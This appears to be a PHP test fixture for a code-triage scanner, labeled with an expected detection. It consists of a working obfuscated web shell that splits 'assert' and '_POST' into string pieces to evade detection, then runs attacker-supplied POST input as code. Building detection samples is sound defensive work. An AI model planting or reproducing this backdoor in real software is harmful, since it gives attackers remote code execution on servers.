<?php
// triage-expect: triage_php_split_name_call
$k = "ass" . "ert";
$k(${"_PO" . "ST"}['x']);
